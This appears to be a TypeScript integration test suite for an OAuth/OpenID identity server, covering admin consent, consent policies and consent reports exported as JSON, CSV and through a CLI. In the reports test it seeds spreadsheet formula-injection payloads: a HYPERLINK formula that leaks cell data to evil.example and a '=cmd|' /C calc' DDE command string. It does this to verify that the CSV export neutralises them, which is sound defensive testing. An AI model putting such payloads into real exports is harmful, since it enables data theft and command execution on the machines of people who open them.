import * as client from 'openid-client';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { allow, authorizeUntilConsent, consentOptions, decide, giveRole } from './support/consent.ts';
import { apiClient, expectProblem, managementToken } from './support/management.ts';
import { authorizationRequest, exchangeCode, expectOAuthError, relyingParty, type RelyingParty } from './support/relying-party.ts';
import { startTestSesame, type TestSesame } from './support/sesame.ts';
import { UserAgent } from './support/user-agent.ts';
import { cliWith } from './support/cli.ts';

/** Issue 15 §4: the admin decides for everyone — admin consent, the consent policy per app, and reports. */

const hostile = '=HYPERLINK("http://evil.example/?x="&A1,"click"), with "quotes"';
const files = { name: 'Files API', indicator: 'https://api.example.com/files', scopes: ['read:files', 'write:files'] };
const redirectUri = 'https://partner.example.com/callback';

let sesame: TestSesame;
let api: ReturnType<typeof apiClient>;
let partner: RelyingParty;
let partnerId: string;

beforeAll(async () => {
  sesame = await startTestSesame();
  api = apiClient(sesame, await managementToken(sesame));
  const app = await sesame.createApp({ name: 'Files Partner', type: 'traditional', third_party: true, redirect_uris: [redirectUri] });
  partnerId = app.clientId;
  partner = await relyingParty(sesame, app, redirectUri);
  await giveRole(sesame, (await sesame.createUser()).id, files, files.scopes);
  await sesame.sesame.db.updateTable('api_resource_scopes').set({ description: hostile }).where('name', '=', 'write:files').execute();
  await allow(sesame, partnerId, ['profile', 'email'], files.scopes.map((scope) => ({ indicator: files.indicator, scope })));
});
afterAll(async () => sesame?.stop());

async function newPerson() {
  const user = await sesame.createUser();
  await giveRole(sesame, user.id, files, files.scopes);
  return { id: user.id, credentials: { login: user.username, password: user.password } };
}

async function authorize(rp: RelyingParty, credentials: { login: string; password: string }, params: Record<string, string>, agent = new UserAgent(sesame.url)) {
  const request = await authorizationRequest(rp, params);
  return { agent, request, step: await authorizeUntilConsent(agent, request.url.toString(), credentials) };
}

const setConsent = (body: unknown, appId = partnerId) => api('PUT', `/api/applications/${appId}/consent`, body);

async function events(userId: string | null, type: string, clientId = partnerId) {
  let query = sesame.sesame.db.selectFrom('audit_events').select(['details']).where('type', '=', type).where('client_id', '=', clientId);
  if (userId) query = query.where('user_id', '=', userId);
  return (await query.execute()).map((r) => r.details as Record<string, unknown>);
}

describe('admin consent', () => {
  it('everything asked pre-approved: no consent screen, and the app is connected by the admin\'s decision', async () => {
    const set = await setConsent({ policy: 'remember', preapproved: ['profile', 'offline_access'] });
    expect(set.status, JSON.stringify(set.body)).toBe(200);
    expect(set.body).toEqual({ policy: 'remember', preapproved: ['profile', 'offline_access'] });
    const person = await newPerson();
    const { request, step } = await authorize(partner, person.credentials, { scope: 'openid profile offline_access' });
    if (!('callback' in step)) throw new Error('expected no consent screen');
    const tokens = await exchangeCode(partner, request, step.callback);
    expect(tokens.scope?.split(' ').sort()).toEqual(['offline_access', 'openid', 'profile']);
    expect(await events(person.id, 'consent.granted')).toEqual([expect.objectContaining({ by: 'admin' })]);
    const grants = await api('GET', `/api/users/${person.id}/grants`);
    expect(grants.body.data.map((g: { client_id: string }) => g.client_id)).toContain(partnerId);

    // Withdrawn at once: the token dies, the admin's consent ends, and the next sign-in asks.
    await setConsent({ policy: 'remember', preapproved: [] });
    await expectOAuthError(client.refreshTokenGrant(partner.config, tokens.refresh_token!), 'invalid_grant');
    expect(await events(person.id, 'consent.revoked')).toEqual([expect.objectContaining({ by: 'admin', reason: 'admin_consent_withdrawn' })]);
    expect(await events(null, 'consent.policy_changed')).toContainEqual(expect.objectContaining({ policy: 'remember', withdrawn: ['profile', 'offline_access'] }));
    const again = await authorize(partner, person.credentials, { scope: 'openid profile offline_access' });
    if (!('consent' in again.step)) throw new Error('expected the consent screen after the withdrawal');
    expect(consentOptions(again.step.consent.page).map((o) => o.value)).toEqual(['openid', 'profile', 'offline_access']);
  });

  it('partly pre-approved: the screen shows the pre-approved items marked and fixed, and asks only about the rest', async () => {
    await setConsent({ policy: 'remember', preapproved: ['profile', `${files.indicator} read:files`] });
    const person = await newPerson();
    const scope = 'openid profile email read:files write:files';
    const { agent, request, step } = await authorize(partner, person.credentials, { scope, resource: files.indicator });
    if (!('consent' in step)) throw new Error('expected the consent screen');
    const options = consentOptions(step.consent.page);
    expect(options).toEqual([
      { value: 'openid', required: true }, { value: 'profile', required: true }, { value: 'email', required: false },
      { value: `${files.indicator} read:files`, required: true }, { value: `${files.indicator} write:files`, required: false },
    ]);
    expect(step.consent.page).toContain('approved by your organization');
    // Unticking a pre-approved item by hand changes nothing: the form cannot refuse it.
    const tokens = await exchangeCode(partner, request, await decide(agent, step.consent, ['email']), { resource: files.indicator });
    expect(String(tokens.scope).split(' ').sort()).toEqual(['read:files']);
    const again = await authorize(partner, person.credentials, { scope: 'openid profile email' });
    expect('callback' in again.step, 'what the person decided is remembered').toBe(true);

    // Withdrawing asks again for what only the admin had approved; the person's own decision stays.
    await setConsent({ policy: 'remember', preapproved: [] });
    const asked = await authorize(partner, person.credentials, { scope: 'openid profile email' });
    if (!('consent' in asked.step)) throw new Error('expected the consent screen');
    expect(consentOptions(asked.step.consent.page).map((o) => o.value)).toEqual(['openid', 'profile']);
  });

  it('refuses a permission the app may not be granted, as a problem', async () => {
    expectProblem(await setConsent({ policy: 'remember', preapproved: ['phone'] }), 422, 'consent.unknown_permission');
    expectProblem(await setConsent({ policy: 'sometimes' }), 400, 'request.invalid');
    const own = await sesame.createApp({ name: 'Own', type: 'traditional', redirect_uris: ['https://own.example.com/cb'] });
    expectProblem(await setConsent({ policy: 'ask' }, own.clientId), 422, 'application.not_third_party');
  });
});

describe('the consent policy', () => {
  it('ask: the screen at every sign-in', async () => {
    await setConsent({ policy: 'ask', preapproved: ['profile'] });
    const person = await newPerson();
    for (let i = 0; i < 2; i++) {
      const { agent, step } = await authorize(partner, person.credentials, { scope: 'openid profile email' });
      if (!('consent' in step)) throw new Error(`expected the consent screen on sign-in ${i + 1}`);
      expect(consentOptions(step.consent.page)).toEqual([{ value: 'openid', required: true }, { value: 'profile', required: true }, { value: 'email', required: false }]);
      await decide(agent, step.consent, ['email']);
    }
    await setConsent({ policy: 'remember', preapproved: [] });
  });

  it('native apps are asked every time, unless everything asked is pre-approved; preapproved asks nobody', async () => {
    const app = await sesame.createApp({ name: 'Desktop Files', type: 'native', third_party: true, redirect_uris: ['http://127.0.0.1/callback'] });
    await allow(sesame, app.clientId, ['profile', 'email']);
    const native = await relyingParty(sesame, app, 'http://127.0.0.1:53127/callback');
    const person = await newPerson();
    const first = await authorize(native, person.credentials, { scope: 'openid profile' });
    if (!('consent' in first.step)) throw new Error('expected the consent screen');
    await decide(first.agent, first.step.consent, ['profile']);
    expect('consent' in (await authorize(native, person.credentials, { scope: 'openid profile' })).step, 'asked again').toBe(true);

    await setConsent({ policy: 'remember', preapproved: ['profile'] }, app.clientId);
    expect('callback' in (await authorize(native, person.credentials, { scope: 'openid profile' })).step).toBe(true);
    expect('consent' in (await authorize(native, person.credentials, { scope: 'openid profile email' })).step).toBe(true);

    await setConsent({ policy: 'preapproved', preapproved: [] }, app.clientId);
    const other = await newPerson();
    const { request, step } = await authorize(native, other.credentials, { scope: 'openid profile email' });
    if (!('callback' in step)) throw new Error('expected no consent screen');
    expect((await exchangeCode(native, request, step.callback)).scope).toBe('openid profile email');

    // Leaving `preapproved` withdraws it: asked again.
    await setConsent({ policy: 'remember', preapproved: [] }, app.clientId);
    expect('consent' in (await authorize(native, other.credentials, { scope: 'openid profile email' })).step).toBe(true);
  });
});

describe('reports', () => {
  it('counts per permission, as JSON, CSV (escaped, formulas neutralised) and in the CLI', async () => {
    const app = await sesame.createApp({ name: '=cmd|\' /C calc\'!A0', type: 'traditional', third_party: true, redirect_uris: [redirectUri] });
    await allow(sesame, app.clientId, ['profile', 'email'], files.scopes.map((scope) => ({ indicator: files.indicator, scope })));
    const rp = await relyingParty(sesame, app, redirectUri);
    const grantAll = async (ticked: string[]) => {
      const person = await newPerson();
      const { agent, step } = await authorize(rp, person.credentials, { scope: 'openid profile email read:files write:files', resource: files.indicator });
      if (!('consent' in step)) throw new Error('expected the consent screen');
      await decide(agent, step.consent, ticked);
    };
    await grantAll(['profile', 'email', `${files.indicator} write:files`]);
    await grantAll(['profile']);
    await setConsent({ policy: 'remember', preapproved: [`${files.indicator} read:files`] }, app.clientId);

    const report = await api('GET', `/api/applications/${app.clientId}/consent/report`);
    expect(report.status).toBe(200);
    expect(report.body.users).toBe(2);
    const count = (permission: string) => report.body.permissions.find((p: { permission: string }) => p.permission === permission);
    expect(count('profile')).toMatchObject({ users: 2, preapproved: false });
    expect(count('email')).toMatchObject({ users: 1 });
    expect(count('offline_access')).toMatchObject({ users: 0 });
    expect(count(`${files.indicator} write:files`)).toMatchObject({ users: 1, description: hostile });
    expect(count(`${files.indicator} read:files`)).toMatchObject({ users: 2, preapproved: true });

    const csv = await fetch(`${sesame.url}/api/applications/${app.clientId}/consent/report.csv`, { headers: { authorization: `Bearer ${await managementToken(sesame)}` } });
    expect(csv.status).toBe(200);
    expect(csv.headers.get('content-type')).toMatch(/^text\/csv/);
    expect(csv.headers.get('content-disposition')).toContain('attachment');
    const text = await csv.text();
    const lines = text.split('\r\n');
    expect(lines[0]).toBe('app,client_id,permission,resource,scope,description,users,preapproved');
    const writeLine = lines.find((l) => l.includes('write:files'))!;
    // The app's name and the description would be formulas: each starts with an apostrophe, quoted where needed.
    expect(writeLine).toBe(`'=cmd|' /C calc'!A0,${app.clientId},${files.indicator} write:files,${files.indicator},write:files,"'=HYPERLINK(""http://evil.example/?x=""&A1,""click""), with ""quotes""",1,false`);
    for (const line of lines.filter(Boolean)) expect(line).not.toMatch(/(^|,)[=+\-@]/);

    const cli = cliWith(() => ({ ...sesame.database.env, SESAME_LOG_LEVEL: 'silent' }));
    const run = await cli.run('apps', 'consent', 'report', '--id', app.clientId, '--csv');
    expect(run.code, run.stderr).toBe(0);
    expect(run.stdout).toContain(writeLine);
    const shown = await cli.run('apps', 'consent', 'set', '--id', app.clientId, '--policy', 'ask', '--preapprove', 'profile', '--preapprove', `${files.indicator}#read:files`);
    expect(shown.code, shown.stderr).toBe(0);
    expect((await api('GET', `/api/applications/${app.clientId}/consent`)).body).toEqual({ policy: 'ask', preapproved: ['profile', `${files.indicator} read:files`] });
  });
});
